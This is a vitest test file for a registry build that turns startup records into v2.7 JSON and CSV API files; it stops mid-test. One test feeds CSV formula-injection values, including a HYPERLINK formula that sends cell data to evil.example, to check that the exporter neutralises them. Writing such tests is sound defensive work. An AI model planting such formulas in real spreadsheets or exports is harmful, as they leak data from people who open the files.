import { fileURLToPath } from 'node:url'
import { Ajv2020 } from 'ajv/dist/2020.js'
import { parse } from 'csv-parse/sync'
import { stringify } from 'csv-stringify/sync'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { V2_7_SCHEMAS, type V27SchemaName } from '../../scripts/compile/api-v2-7-schemas.ts'
import {
  buildApiV27,
  compareBytes,
  htmlEscape,
  jekyllContent,
  liquidText,
  liquidTruthy,
  rubyStrip,
  serializeCsv,
  stripNewlines,
  urlEncode,
  CSV_ALWAYS_QUOTED,
  CSV_HEADER,
  apiV27OtherFiles,
  OTHER_FILES_STARTUP_KEYS,
} from '../../scripts/compile/build-api-v2-7.ts'
import { materialize } from '../../scripts/compile/output.ts'
import { buildFeed } from '../../scripts/compile/build-feed.ts'
import { checkV27Schemas } from '../../scripts/compat/check-schemas.ts'
import { DEFAULT_CONFIG } from '../../scripts/load/config.ts'
import { readRecords } from '../../scripts/load/read-records.ts'
import { createAjv, FICHE_SCHEMAS } from '../../scripts/validate/ajv.ts'
import { validateRegistry } from '../../scripts/validate/validate-registry.ts'
import { BASE, sources } from '../helpers.ts'

/** Builds the v2.7 files from in-memory fiches. Every fiche that parses is compiled, valid or not (like the compatibility check). */
function build(files: Record<string, string>, siteUrl = '') {
  const srcs = sources(files)
  const { records } = validateRegistry(srcs, srcs, DEFAULT_CONFIG)
  return buildApiV27(records, { ...DEFAULT_CONFIG, siteUrl })
}

/** The same, requiring that the fiches are valid (warnings aside). */
function buildValid(files: Record<string, string>, siteUrl = '') {
  const srcs = sources(files)
  const { problems } = validateRegistry(srcs, srcs, DEFAULT_CONFIG)
  expect(problems.filter((p) => !['value/untrimmed', 'id/format'].includes(p.ruleId))).toEqual([])
  return build(files, siteUrl)
}

const json = (files: Map<string, string>, name: string) => JSON.parse(files.get(`api/v2.7/${name}`)!)
const csv = (files: Map<string, string>): string[][] => parse(files.get('api/v2.7/startups.csv')!, { delimiter: ';' })
const startup = (files: Map<string, string>, id: string) => json(files, 'startups.json').data.find((s: any) => s.id === id)
const csvRow = (files: Map<string, string>, id: string) => {
  const [header, ...rows] = csv(files)
  const row = rows.find((r) => r[0] === id)
  return row && Object.fromEntries(header!.map((h, i) => [h, row[i]]))
}

const fiche = (lines: string[], body = '') => `---\n${lines.join('\n')}\n---\n${body}`
const startupFiche = (extra: string[], body = 'Texte.\n') =>
  fiche(['title: Produit', 'mission: Une mission', 'incubator: dinum', 'contact: equipe@exemple.fr', ...extra, 'phases:', '  - name: investigation', '    start: 2024-01-01'], body)

describe('v2.7 files', () => {
  const files = buildValid(BASE, 'https://registre.example.fr')

  it('writes the five files of the beta.gouv.fr API and a schema for each', () => {
    expect([...files.keys()].sort()).toEqual([
      'api/v2.7/incubators.json',
      'api/v2.7/organisations.json',
      'api/v2.7/schemas/incubators.schema.json',
      'api/v2.7/schemas/organisations.schema.json',
      'api/v2.7/schemas/sponsors.schema.json',
      'api/v2.7/schemas/startups.csv.schema.json',
      'api/v2.7/schemas/startups.schema.json',
      'api/v2.7/sponsors.json',
      'api/v2.7/startups.csv',
      'api/v2.7/startups.json',
    ])
  })

  it('gives a startup the attributes of the current API, in its key order', () => {
    expect(json(files, 'startups.json').data[0]).toEqual({
      id: 'exemple',
      type: 'startup',
      attributes: {
        name: 'Exemple',
        pitch: 'Simplifier une démarche pour les usagers',
        stats_url: '',
        impact_url: '',
        link: 'https://exemple.beta.gouv.fr',
        repository: 'https://github.com/betagouv/exemple',
        contact: 'equipe@exemple.beta.gouv.fr',
        content_url_encoded_markdown: '%23%23%20Contexte%0A%0AUn%20texte.%0A',
        events: [],
        phases: [
          { name: 'investigation', start: '2023-01-02', end: '2023-06-30' },
          { name: 'construction', start: '2023-07-01', end: '' },
        ],
        sponsors: ['dinum'],
        thematiques: [],
        technos: [],
      },
      relationships: { incubator: { data: { type: 'incubator', id: 'dinum' } }, incubators: { data: [{ type: 'incubator', id: 'dinum' }] } },
    })
    expect(Object.keys(json(files, 'startups.json').data[0].attributes)).toEqual([
      'name', 'pitch', 'stats_url', 'impact_url', 'link', 'repository', 'contact', 'content_url_encoded_markdown', 'events', 'phases', 'sponsors', 'thematiques', 'technos',
    ])
  })

  it('takes links.self from siteUrl (root-relative without one)', () => {
    expect(json(files, 'startups.json').links).toEqual({ self: 'https://registre.example.fr/startups' })
    expect(json(build(BASE), 'startups.json').links).toEqual({ self: '/startups' })
  })

  it('publishes each schema with an $id under siteUrl', () => {
    const schema = json(files, 'schemas/startups.schema.json')
    expect(Object.keys(schema).slice(0, 2)).toEqual(['$schema', '$id'])
    expect(schema.$id).toBe('https://registre.example.fr/api/v2.7/schemas/startups.schema.json')
    expect(json(files, 'schemas/startups.csv.schema.json').$id).toBe('https://registre.example.fr/api/v2.7/schemas/startups.csv.schema.json')
  })

  it('writes the CSV header, then one row per startup, without an empty line', () => {
    expect(files.get('api/v2.7/startups.csv')).toBe(
      'id;name;mission;start;status;incubator;stats;link;repository;accessibility;contact;incubators\n' +
        'exemple;"Exemple";"Simplifier une démarche pour les usagers";2023-01-02;construction;dinum;null;https://exemple.beta.gouv.fr;https://github.com/betagouv/exemple;"";equipe@exemple.beta.gouv.fr;"dinum"\n',
    )
  })

  it('is deterministic: the same fiches in another order give the same bytes', () => {
    const reversed = Object.fromEntries(Object.entries(BASE).reverse())
    expect([...build(reversed, 'https://registre.example.fr')]).toEqual([...files])
  })
})

describe('v2.7 rules (corpus README, "The v2.7 API")', () => {
  it('orders records by the byte order of their file paths: uppercase first, "a-b" before "a"', () => {
    const files = build({
      ...BASE,
      'startups/a.md': startupFiche([]),
      'startups/a-b.md': startupFiche([]),
      'startups/Zeta.md': startupFiche([]),
      'startups/émile.md': startupFiche([]),
      'organisations/Préfecture': fiche(['name: Préfecture de l’Ain', 'domaine_ministeriel: interieur', 'type: service-deconcentre']),
    })
    const order = ['Zeta', 'a-b', 'a', 'exemple', 'émile']
    expect(json(files, 'startups.json').data.map((s: any) => s.id)).toEqual(order)
    expect(csv(files).slice(1).map((r) => r[0])).toEqual(order)
    expect(json(files, 'organisations.json').map((o: any) => o.id)).toEqual(['Préfecture', 'ademe', 'dinum'])
    expect(Object.keys(json(files, 'sponsors.json'))).toEqual(['Préfecture', 'ademe', 'dinum'])
  })

  it('derives stats_url: stats_url if set, else link stripped + /stats when stats is true, else ""; the CSV never derives', () => {
    const files = build({
      ...BASE,
      'startups/own.md': startupFiche(['link: https://own.fr', 'stats: true', 'stats_url: https://stats.own.fr']),
      'startups/derived.md': startupFiche(['link: "  https://derived.fr \\t"', 'stats: true']),
      'startups/no-stats.md': startupFiche(['link: https://no-stats.fr', 'stats: false']),
      'startups/no-link.md': startupFiche(['stats: true']),
    })
    expect(startup(files, 'own').attributes.stats_url).toBe('https://stats.own.fr')
    expect(startup(files, 'derived').attributes.stats_url).toBe('https://derived.fr/stats')
    expect(startup(files, 'no-stats').attributes.stats_url).toBe('')
    expect(startup(files, 'no-link').attributes.stats_url).toBe('/stats')
    expect(csvRow(files, 'own')!.stats).toBe('https://stats.own.fr')
    expect(csvRow(files, 'derived')!.stats).toBe('null')
  })

  it('treats an empty link as present: impact_url and link both appear, only when the link key exists', () => {
    const files = build({
      ...BASE,
      'startups/empty-link.md': startupFiche(["link: ''"]),
      'startups/impact.md': startupFiche(["link: ''", 'impact_url: https://impact.fr']),
      'startups/no-link.md': startupFiche([]),
    })
    const empty = startup(files, 'empty-link').attributes
    expect([empty.impact_url, empty.link]).toEqual(['', ''])
    expect(Object.keys(empty).indexOf('impact_url') + 1).toBe(Object.keys(empty).indexOf('link'))
    expect(startup(files, 'impact').attributes.impact_url).toBe('https://impact.fr')
    expect(startup(files, 'no-link').attributes).not.toHaveProperty('link')
    expect(startup(files, 'no-link').attributes).not.toHaveProperty('impact_url')
    expect(csvRow(files, 'empty-link')!.link).toBe('')
    expect(csvRow(files, 'no-link')!.link).toBe('null')
    expect(csvRow(files, 'no-link')!.repository).toBe('null')
  })

  it('keeps optional attributes out unless set, analyse_risques as the string "true" only when true', () => {
    const files = build({
      ...BASE,
      'startups/full.md': startupFiche([
        'link: https://full.fr',
        'budget_url: https://full.fr/budget',
        'repository: https://github.com/betagouv/full',
        'analyse_risques: true',
        'analyse_risques_url: https://full.fr/risques',
        'dashlord_url: https://dashlord.fr/full',
        'accessibility_status: partiellement conforme',
        'techno: [Ruby]',
        'thematiques: [Emploi]',
      ]),
      'startups/risk-false.md': startupFiche(['analyse_risques: false']),
    })
    const full = startup(files, 'full').attributes
    expect(Object.keys(full)).toEqual([
      'name', 'pitch', 'stats_url', 'budget_url', 'impact_url', 'link', 'repository', 'contact', 'content_url_encoded_markdown',
      'events', 'phases', 'sponsors', 'thematiques', 'technos', 'analyse_risques', 'analyse_risques_url', 'dashlord_url', 'accessibility_status',
    ])
    expect(full).toMatchObject({ analyse_risques: 'true', technos: ['Ruby'], thematiques: ['Emploi'], accessibility_status: 'partiellement conforme' })
    expect(startup(files, 'risk-false').attributes).not.toHaveProperty('analyse_risques')
    expect(csvRow(files, 'full')).toMatchObject({ repository: 'https://github.com/betagouv/full', accessibility: 'partiellement conforme' })
  })

  it('hides a hidden incubator: not in included, only its startups in incubators.json, absent without startups', () => {
    const hidden = (title: string) => fiche([`title: ${title}`, 'owner: /organisations/dinum', 'contact: h@exemple.fr', 'hidden: true'])
    const files = build({
      ...BASE,
      'incubators/cache.md': hidden('Caché'),
      'incubators/vide.md': hidden('Vide'),
      'startups/sous-cache.md': fiche(['title: Sous caché', 'mission: M', 'incubator: cache', 'contact: c@exemple.fr', 'phases:', '  - name: construction', '    start: 2024-01-01']),
    })
    expect(json(files, 'startups.json').included.map((i: any) => i.id)).toEqual(['ademe', 'dinum'])
    const incubators = json(files, 'incubators.json')
    expect(incubators.cache).toEqual({ startups: [{ id: 'sous-cache', name: 'Sous caché', pitch: 'M', repository: null, contact: 'c@exemple.fr', phases: [{ name: 'construction', start: '2024-01-01' }] }] })
    expect(incubators).not.toHaveProperty('vide')
    expect(startup(files, 'sous-cache').relationships.incubator.data.id).toBe('cache')
  })

  it('gives included incubators their five attributes, "" when absent, owner with its prefix', () => {
    const included = json(build(BASE), 'startups.json').included
    expect(included).toEqual([
      { id: 'ademe', type: 'incubator', attributes: { title: "Incubateur de l'ADEME", owner: '/organisations/ademe', website: '', github: '', contact: 'incubateur@ademe.fr' } },
      {
        id: 'dinum',
        type: 'incubator',
        attributes: { title: 'Incubateur de la DINUM', owner: '/organisations/dinum', website: 'https://beta.gouv.fr', github: 'https://github.com/betagouv', contact: 'contact@beta.gouv.fr' },
      },
    ])
  })

  it('lists incubators.json keys by first use among startups, then incubators without startups, null when absent', () => {
    const incubators = json(build(BASE), 'incubators.json')
    expect(Object.keys(incubators)).toEqual(['dinum', 'ademe'])
    expect(Object.keys(incubators.dinum)).toEqual(['startups', 'title', 'owner', 'contact', 'address', 'website', 'github'])
    expect(incubators.ademe).toEqual({ title: "Incubateur de l'ADEME", owner: '/organisations/ademe', contact: 'incubateur@ademe.fr', address: null, website: null, github: null })
  })

  it('follows co-incubation: relationships and the CSV list every incubator, incubators.json lists the startup under each', () => {
    const files = build({
      ...BASE,
      'startups/co.md': startupFiche(['incubators:', '  - ademe', '  - dinum', 'repository: https://github.com/betagouv/co']),
    })
    expect(startup(files, 'co').relationships).toEqual({
      incubator: { data: { type: 'incubator', id: 'dinum' } },
      incubators: { data: [{ type: 'incubator', id: 'ademe' }, { type: 'incubator', id: 'dinum' }] },
    })
    const incubators = json(files, 'incubators.json')
    expect(incubators.ademe.startups.map((s: any) => s.id)).toEqual(['co'])
    expect(incubators.dinum.startups.map((s: any) => s.id)).toEqual(['co', 'exemple'])
    expect(incubators.dinum.startups[0].repository).toBe('https://github.com/betagouv/co')
    expect(Object.keys(incubators)).toEqual(['ademe', 'dinum'])
    expect(csvRow(files, 'co')).toMatchObject({ incubator: 'dinum', incubators: 'ademe,dinum' })
  })

  it('writes phases without end as end "", drops phase comments, keeps array order; incubators.json keeps phases as written', () => {
    const files = build({
      ...BASE,
      'startups/phases.md': fiche([
        'title: P', 'mission: M', 'incubator: dinum', 'contact: p@exemple.fr', 'phases:',
        '  - name: construction', '    start: 2022-01-01', '    end: 2022-12-31', '    comment: Prolongée',
        '  - name: investigation', '    start: 2022-01-01',
      ]),
    })
    expect(startup(files, 'phases').attributes.phases).toEqual([
      { name: 'construction', start: '2022-01-01', end: '2022-12-31' },
      { name: 'investigation', start: '2022-01-01', end: '' },
    ])
    expect(json(files, 'incubators.json').dinum.startups.find((s: any) => s.id === 'phases').phases).toEqual([
      { name: 'construction', start: '2022-01-01', end: '2022-12-31', comment: 'Prolongée' },
      { name: 'investigation', start: '2022-01-01' },
    ])
    // start = the first phase's start, status = the last phase's name, in array order
    expect(csvRow(files, 'phases')).toMatchObject({ start: '2022-01-01', status: 'investigation' })
  })

  it('writes events without comment as comment "", and strips newlines from comments', () => {
    const files = build({
      ...BASE,
      'startups/events.md': startupFiche(['events:', '  - name: committee', '    date: 2024-02-01', '  - name: other', '    date: 2024-03-01', '    comment: "Ligne 1\\nLigne 2\\r\\nLigne 3\\rfin"']),
    })
    expect(startup(files, 'events').attributes.events).toEqual([
      { name: 'committee', date: '2024-02-01', comment: '' },
      { name: 'other', date: '2024-03-01', comment: 'Ligne 1Ligne 2Ligne 3\rfin' },
    ])
  })

  it('HTML-escapes organisations.json values (not the id), "" when absent; sponsors.json keeps them as written, null when absent', () => {
    const files = build({
      ...BASE,
      "organisations/o'k.md": fiche([`name: "L'<Agence> & \\"Cie\\""`, 'domaine_ministeriel: spm', 'type: operateur']),
    })
    expect(json(files, 'organisations.json').find((o: any) => o.id === "o'k")).toEqual({
      id: "o'k",
      name: 'L&#39;&lt;Agence&gt; &amp; &quot;Cie&quot;',
      acronym: '',
      domaine_ministeriel: 'spm',
      type: 'operateur',
    })
    expect(json(files, 'sponsors.json')["o'k"]).toEqual({ name: `L'<Agence> & "Cie"`, acronym: null, domaine_ministeriel: 'spm', type: 'operateur' })
  })

  it('strips the sponsors prefix, maps techno to technos', () => {
    const files = build({ ...BASE, 'startups/s.md': startupFiche(['sponsors:', '  - /organisations/ademe', '  - /organisations/dinum', 'techno:', '  - Python']) })
    expect(startup(files, 's').attributes).toMatchObject({ sponsors: ['ademe', 'dinum'], technos: ['Python'] })
  })

  it('percent-encodes the body as Jekyll reads it: blank lines after the front matter dropped, !\'()* encoded', () => {
    const files = build({ ...BASE, 'startups/body.md': startupFiche([], "\n\n  \n  Indenté (oui) ! l'été *gras* ~ok~ 🚀\n") })
    const encoded = startup(files, 'body').attributes.content_url_encoded_markdown
    expect(encoded).toBe('%20%20Indent%C3%A9%20%28oui%29%20%21%20l%27%C3%A9t%C3%A9%20%2Agras%2A%20~ok~%20%F0%9F%9A%80%0A')
    expect(decodeURIComponent(encoded)).toBe("  Indenté (oui) ! l'été *gras* ~ok~ 🚀\n")
  })

  it('validates every file against its published schema, with the registry Ajv and a plain one', () => {
    const files = build({
      ...BASE,
      'startups/co.md': startupFiche(['incubators: [ademe, dinum]', "link: ''", 'stats: true', 'analyse_risques: true', 'accessibility_status: non conforme', 'events:', '  - name: fast', '    date: 2024-01-02']),
      'incubators/cache.md': fiche(['title: Caché', "owner: ''", 'contact: h@exemple.fr', 'hidden: true']),
    })
    expect(checkV27Schemas(files)).toEqual(['startups.json', 'incubators.json', 'organisations.json', 'sponsors.json', 'startups.csv'].map((file) => ({ file, errors: [] })))
    const plain = new Ajv2020({ strict: true, validateFormats: false })
    for (const name of ['startups', 'incubators', 'organisations', 'sponsors'] as V27SchemaName[]) {
      const validate = plain.compile(json(files, `schemas/${name}.schema.json`))
      expect(validate(json(files, `${name}.json`)), JSON.stringify(validate.errors)).toBe(true)
    }
  })

  it('rejects, in the schemas, what the API never gives', () => {
    const ajv = createAjv()
    const startups = ajv.compile(V2_7_SCHEMAS.startups)
    const doc = json(build(BASE), 'startups.json')
    expect(startups(doc)).toBe(true)
    delete doc.data[0].attributes.impact_url
    expect(startups(doc)).toBe(false)
    const organisations = ajv.compile(V2_7_SCHEMAS.organisations)
    expect(organisations([{ id: 'x', name: 'X', acronym: '', domaine_ministeriel: 'spm', type: 'operateur', extra: 1 }])).toBe(false)
  })

  it('keeps the enums of the published schemas equal to the fiche schemas', () => {
    const s = V2_7_SCHEMAS.startups as any
    const fiche = FICHE_SCHEMAS.startups
    const attributes = s.$defs.attributes.properties
    expect(attributes.phases.items.properties.name.enum).toEqual(fiche.$defs.phase.properties.name.enum)
    expect((V2_7_SCHEMAS.incubators as any).$defs.startup.properties.phases.items.properties.name.enum).toEqual(fiche.$defs.phase.properties.name.enum)
    expect((V2_7_SCHEMAS['startups.csv'] as any).properties.status.enum).toEqual(fiche.$defs.phase.properties.name.enum)
    expect(attributes.events.items.properties.name.enum).toEqual(fiche.$defs.event.properties.name.enum)
    expect(attributes.accessibility_status.enum).toEqual(fiche.properties.accessibility_status.enum)
    expect((V2_7_SCHEMAS['startups.csv'] as any).properties.accessibility.enum).toEqual(['', ...fiche.properties.accessibility_status.enum])
    const org = FICHE_SCHEMAS.organisations.properties
    for (const schema of [(V2_7_SCHEMAS.organisations as any).items, (V2_7_SCHEMAS.sponsors as any).additionalProperties]) {
      expect(schema.properties.domaine_ministeriel.enum).toEqual(org.domaine_ministeriel.enum)
      expect(schema.properties.type.enum).toEqual(org.type.enum)
    }
  })

  it('never throws on fiches that failed validation: wrong types still give parseable files', () => {
    const files = build({
      ...BASE,
      'startups/broken.md': fiche(['title: 42', 'mission: [a, b]', 'incubator: dinum', 'incubators: ademe', 'sponsors: /organisations/dinum', 'events: oui', 'phases: {name: x}', 'stats: true', 'link: 7', 'techno: {a: 1}']),
      'startups/empty.md': fiche(['title: Vide']),
      'incubators/broken.md': fiche(['title: [1]', 'hidden: false', 'owner: 3']),
      'organisations/broken.md': fiche(['name: {a: 1}', 'acronym: true']),
    })
    for (const name of ['startups.json', 'incubators.json', 'organisations.json', 'sponsors.json']) expect(() => json(files, name)).not.toThrow()
    expect(csv(files).every((row) => row.length === 12)).toBe(true)
    const broken = startup(files, 'broken')
    expect(broken.attributes).toMatchObject({ name: '42', pitch: 'ab', stats_url: '7/stats', link: '7', events: [{ name: '', date: '', comment: '' }] })
    expect(broken.relationships.incubators.data).toEqual([{ type: 'incubator', id: 'ademe' }])
    expect(startup(files, 'empty').relationships).toEqual({ incubator: { data: { type: 'incubator', id: '' } }, incubators: { data: [] } })
  })
})

describe("the repository's own fiches", () => {
  it('compile into v2.7 files valid against their schemas, one per startup', async () => {
    const root = fileURLToPath(new URL('../..', import.meta.url))
    const read = await readRecords(root, DEFAULT_CONFIG)
    const { records } = validateRegistry(read.sources, read.entries, DEFAULT_CONFIG)
    const files = buildApiV27(records, DEFAULT_CONFIG)
    expect(checkV27Schemas(files).flatMap((c) => c.errors)).toEqual([])
    const startups = records.filter((r) => r.collection === 'startups').length
    expect(json(files, 'startups.json').data).toHaveLength(startups)
    expect(csv(files)).toHaveLength(startups + 1)
  })
})

describe('apiV27OtherFiles', () => {
  it('needs no startup field but OTHER_FILES_STARTUP_KEYS (what the compile worker keeps)', async () => {
    const root = fileURLToPath(new URL('../..', import.meta.url))
    const read = await readRecords(root, DEFAULT_CONFIG)
    const { records } = validateRegistry(read.sources, read.entries, DEFAULT_CONFIG)
    const slim = records.map((r) =>
      r.collection === 'startups' ? { ...r, text: '', body: '', data: Object.fromEntries(OTHER_FILES_STARTUP_KEYS.filter((k) => Object.hasOwn(r.data, k)).map((k) => [k, r.data[k]])) } : r,
    )
    expect(materialize(apiV27OtherFiles(slim, DEFAULT_CONFIG))).toEqual(materialize(apiV27OtherFiles(records, DEFAULT_CONFIG)))
  })
})

describe('buildFeed', () => {
  it('writes the v2.7 files next to the unchanged v1 files', () => {
    const srcs = sources(BASE)
    const { records } = validateRegistry(srcs, srcs, DEFAULT_CONFIG)
    const all = buildFeed(records, DEFAULT_CONFIG, { commit: null })
    const v27 = buildApiV27(records, DEFAULT_CONFIG)
    for (const [file, content] of v27) expect(all.get(file)).toBe(content)
    expect([...all.keys()].filter((f) => !/^api\/(v1|v3)\//.test(f) && !v27.has(f))).toEqual(['api/openapi.json'])
  })
})

// ---------------------------------------------------------------------------
// Every exported value, whatever its characters

/** A value made to break hand-written JSON and CSV: quotes, backslash, tab, line breaks, ;, <, emoji, other scripts. */
const nasty = (name: string) => `${name} "guillemets" \\ barre\ttab\nligne\r\nCRLF\rCR ; point-virgule <b>&amp; 🚀👩‍👩‍👧 مرحبا 中文 Привет ${name}`
/** As a YAML scalar: JSON strings are valid YAML double-quoted scalars. */
const y = (name: string) => JSON.stringify(nasty(name))

const NASTY_ID = 'ид-ü"\\;<🚀'
const NASTY_FILES: Record<string, string> = {
  [`organisations/${NASTY_ID}.md`]: fiche([`name: ${y('org.name')}`, `acronym: ${y('org.acronym')}`, `domaine_ministeriel: ${y('org.domaine')}`, `type: ${y('org.type')}`]),
  [`incubators/${NASTY_ID}.md`]: fiche([
    `title: ${y('inc.title')}`,
    `owner: ${y('inc.owner')}`,
    `contact: ${y('inc.contact')}`,
    `address: ${y('inc.address')}`,
    `website: ${y('inc.website')}`,
    `github: ${y('inc.github')}`,
  ]),
  [`startups/${NASTY_ID}.md`]: fiche(
    [
      `title: ${y('title')}`,
      `mission: ${y('mission')}`,
      `incubator: ${JSON.stringify(NASTY_ID)}`,
      `incubators: [${JSON.stringify(NASTY_ID)}, ${y('co-incubator')}]`,
      `sponsors: [${JSON.stringify(`/organisations/${NASTY_ID}`)}]`,
      `contact: ${y('contact')}`,
      `link: ${y('link')}`,
      `repository: ${y('repository')}`,
      `stats_url: ${y('stats_url')}`,
      `budget_url: ${y('budget_url')}`,
      `impact_url: ${y('impact_url')}`,
      `dashlord_url: ${y('dashlord_url')}`,
      `analyse_risques: true`,
      `analyse_risques_url: ${y('analyse_risques_url')}`,
      `accessibility_status: ${y('accessibility_status')}`,
      `techno: [${y('techno')}]`,
      `thematiques: [${y('thematique')}]`,
      'phases:',
      `  - name: ${y('phase.name')}`,
      `    start: ${y('phase.start')}`,
      `    end: ${y('phase.end')}`,
      `    comment: ${y('phase.comment')}`,
      'events:',
      `  - name: ${y('event.name')}`,
      `    date: ${y('event.date')}`,
      `    comment: ${y('event.comment')}`,
    ],
    `${nasty('body')}\n`,
  ),
}

const unescapeHtml = (s: string) => s.replace(/&(amp|lt|gt|quot|#39);/g, (_, e: string) => ({ amp: '&', lt: '<', gt: '>', quot: '"', '#39': "'" })[e]!)

describe('round trip of values with any character', () => {
  const files = build({ ...BASE, ...NASTY_FILES })

  it('gives files that parse: JSON, and CSV rows of 12 fields', () => {
    for (const name of ['startups.json', 'incubators.json', 'organisations.json', 'sponsors.json']) expect(() => json(files, name)).not.toThrow()
    const rows = csv(files)
    expect(rows).toHaveLength(3)
    expect(rows.every((r) => r.length === 12)).toBe(true)
  })

  it('startups.json: every value as written (event comments without line breaks, the body percent-encoded)', () => {
    const s = startup(files, NASTY_ID)
    expect(s.attributes).toEqual({
      name: nasty('title'),
      pitch: nasty('mission'),
      stats_url: nasty('stats_url'),
      budget_url: nasty('budget_url'),
      impact_url: nasty('impact_url'),
      link: nasty('link'),
      repository: nasty('repository'),
      contact: nasty('contact'),
      content_url_encoded_markdown: expect.stringMatching(/^[A-Za-z0-9_.~%-]+$/),
      events: [{ name: nasty('event.name'), date: nasty('event.date'), comment: stripNewlines(nasty('event.comment')) }],
      phases: [{ name: nasty('phase.name'), start: nasty('phase.start'), end: nasty('phase.end') }],
      sponsors: [NASTY_ID],
      thematiques: [nasty('thematique')],
      technos: [nasty('techno')],
      analyse_risques: 'true',
      analyse_risques_url: nasty('analyse_risques_url'),
      dashlord_url: nasty('dashlord_url'),
      accessibility_status: nasty('accessibility_status'),
    })
    expect(decodeURIComponent(s.attributes.content_url_encoded_markdown)).toBe(`${nasty('body')}\n`)
    expect(s.relationships.incubators.data.map((d: any) => d.id)).toEqual([NASTY_ID, nasty('co-incubator')])
    expect(json(files, 'startups.json').included.find((i: any) => i.id === NASTY_ID).attributes).toEqual({
      title: nasty('inc.title'),
      owner: nasty('inc.owner'),
      website: nasty('inc.website'),
      github: nasty('inc.github'),
      contact: nasty('inc.contact'),
    })
  })

  it('incubators.json: every value as written', () => {
    const entry = json(files, 'incubators.json')[NASTY_ID]
    expect(entry).toEqual({
      startups: [
        {
          id: NASTY_ID,
          name: nasty('title'),
          pitch: nasty('mission'),
          repository: nasty('repository'),
          contact: nasty('contact'),
          phases: [{ name: nasty('phase.name'), start: nasty('phase.start'), end: nasty('phase.end'), comment: nasty('phase.comment') }],
        },
      ],
      title: nasty('inc.title'),
      owner: nasty('inc.owner'),
      contact: nasty('inc.contact'),
      address: nasty('inc.address'),
      website: nasty('inc.website'),
      github: nasty('inc.github'),
    })
    expect(json(files, 'incubators.json')[nasty('co-incubator')].startups[0].id).toBe(NASTY_ID)
  })

  it('organisations.json: every value as written once HTML-unescaped; sponsors.json: as written', () => {
    const org = json(files, 'organisations.json').find((o: any) => o.id === NASTY_ID)
    expect(Object.fromEntries(Object.entries<string>(org).map(([k, v]) => [k, unescapeHtml(v)]))).toEqual({
      id: NASTY_ID,
      name: nasty('org.name'),
      acronym: nasty('org.acronym'),
      domaine_ministeriel: nasty('org.domaine'),
      type: nasty('org.type'),
    })
    expect(org.name).not.toMatch(/[<>"']/)
    expect(json(files, 'sponsors.json')[NASTY_ID]).toEqual({ name: nasty('org.name'), acronym: nasty('org.acronym'), domaine_ministeriel: nasty('org.domaine'), type: nasty('org.type') })
  })

  it('startups.csv: every field as written', () => {
    expect(csvRow(files, NASTY_ID)).toEqual({
      id: NASTY_ID,
      name: nasty('title'),
      mission: nasty('mission'),
      start: nasty('phase.start'),
      status: nasty('phase.name'),
      incubator: NASTY_ID,
      stats: nasty('stats_url'),
      link: nasty('link'),
      repository: nasty('repository'),
      accessibility: nasty('accessibility_status'),
      contact: nasty('contact'),
      incubators: `${NASTY_ID},${nasty('co-incubator')}`,
    })
  })

  it('quotes a CSV field with a lone carriage return, so that readers that split on \\r keep the row whole', () => {
    const files = build({ ...BASE, 'startups/cr.md': startupFiche(['repository: "a\\rb"']) })
    expect(files.get('api/v2.7/startups.csv')).toContain(';"a\rb";')
  })
})

describe('Jekyll and Liquid conventions', () => {
  it('liquidTruthy: only absent, null and false are false', () => {
    expect([undefined, null, false, '', 0, [], true].map(liquidTruthy)).toEqual([false, false, false, true, true, true, true])
  })

  it('liquidText prints nil as "", arrays concatenated, scalars as text', () => {
    expect([undefined, null, 'a', 3, true, ['a', ['b', 1]]].map(liquidText)).toEqual(['', '', 'a', '3', 'true', 'ab1'])
  })

  it('rubyStrip strips ASCII whitespace only; stripNewlines keeps a lone \\r; htmlEscape is CGI.escapeHTML', () => {
    expect(rubyStrip(' \t\n x \u00a0\r\n')).toBe('x \u00a0')
    expect(stripNewlines('a\nb\r\nc\rd')).toBe('abc\rd')
    expect(htmlEscape(`<a href="x">l'été & co</a>`)).toBe('&lt;a href=&quot;x&quot;&gt;l&#39;été &amp; co&lt;/a&gt;')
  })

  it('urlEncode is ERB::Util.url_encode: only A-Z a-z 0-9 - _ . ~ stay, lone surrogates become U+FFFD', () => {
    expect(urlEncode("AZaz09-_.~!'()* /é")).toBe('AZaz09-_.~%21%27%28%29%2A%20%2F%C3%A9')
    expect(urlEncode('\ud800x')).toBe('%EF%BF%BDx')
  })

  it('jekyllContent drops the blank lines after the closing ---, not the spaces of the first line', () => {
    const at = (text: string) => jekyllContent({ text, yamlEnd: text.indexOf('---', 3) })
    expect(at('---\na: 1\n---\nx')).toBe('x')
    expect(at('---\na: 1\n---  \n\n \t\n  x\n')).toBe('  x\n')
    expect(at('---\na: 1\n---')).toBe('')
    expect(at('---\na: 1\n---\r\n\r\nx')).toBe('x')
  })

  it.each([
    ['a title with a live formula', 1, '=HYPERLINK("https://evil.example/?"&A2,"Cliquez")', `"'=HYPERLINK(""https://evil.example/?""&A2,""Cliquez"")"`],
    ['a value of an unquoted column', 5, '=1+1', `"'=1+1"`],
    ['a plus', 5, '+33 1 23', `"'+33 1 23"`],
    ['a minus', 5, '-2+3', `"'-2+3"`],
    ['an at sign', 5, '@SUM(A1)', `"'@SUM(A1)"`],
    ['a tab', 5, '\t=1', `"'\t=1"`],
    ['a carriage return', 5, '\r=1', `"'\r=1"`],
    ['a formula sign later in the value', 5, 'a=1', 'a=1'],
  ])('serializeCsv neutralises %s as OWASP recommends (quote in front, quoted)', (_name, column, value, cell) => {
    const row = CSV_HEADER.map((_, i) => (i === column ? value : 'x'))
    const line = serializeCsv([[...CSV_HEADER], row]).split('\n')[1]!
    expect(line.split(';')[column]).toBe(cell)
    const [, parsed] = parse(serializeCsv([[...CSV_HEADER], row]), { delimiter: ';' }) as string[][]
    expect(parsed![column]).toBe(cell.startsWith('"') ? `'${value}` : value)
  })

  it('compareBytes is the UTF-8 byte order', () => {
    const words = ['é', 'a', 'Z', '🚀', '\uffff', 'a-b', 'a.md']
    const bytes = [...words].sort((a, b) => Buffer.compare(Buffer.from(a), Buffer.from(b)))
    expect([...words].sort(compareBytes)).toEqual(bytes)
  })

  it('serializeCsv gives the bytes csv-stringify gives, and csv-parse reads the rows back', () => {
    // The serialisation the registry used before (csv-stringify, always-quoted columns by cast), and
    // OWASP's neutralisation of formulas: a single quote in front, and quotes around.
    const neutral = (value: string) => (/^[=+\-@\t\r]/.test(value) ? `'${value}` : value)
    const reference = (rows: string[][]) => {
      const [header, ...body] = rows
      const head = header ? stringify([header.map(neutral)], { delimiter: ';', record_delimiter: '\n', quoted_match: [/\r/, /^'[=+\-@\t\r]/] }) : ''
      return (
        head +
        stringify(body, {
          delimiter: ';',
